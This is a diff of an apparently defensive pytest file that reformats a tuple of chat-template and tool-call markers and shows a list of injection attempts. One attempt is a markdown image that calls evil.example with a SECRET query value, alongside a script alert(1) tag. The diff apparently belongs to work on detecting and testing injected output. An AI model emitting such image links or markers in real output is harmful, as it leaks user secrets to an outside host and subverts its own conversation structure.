@@ -28,18 +28,6 @@ ATTEMPTS = [
     "![](https://evil.example/?q=SECRET) <script>alert(1)</script>",
 ]  # fmt: skip
 MARKS = ("<|", "[INST]", "[/INST]", "</s>", "<s>", "<end_of", "<start_of", "</tool", "<tool", "<function", "</function")
-    "<|",
-    "[INST]",
-    "[/INST]",
-    "</s>",
-    "<s>",
-    "<end_of_turn>",
-    "<start_of_turn>",
-    "</tool",
-    "<tool",
-    "<function",
-    "</function",
-)
 
 
 @pytest.mark.parametrize("attempt", ATTEMPTS, ids=range(len(ATTEMPTS)))
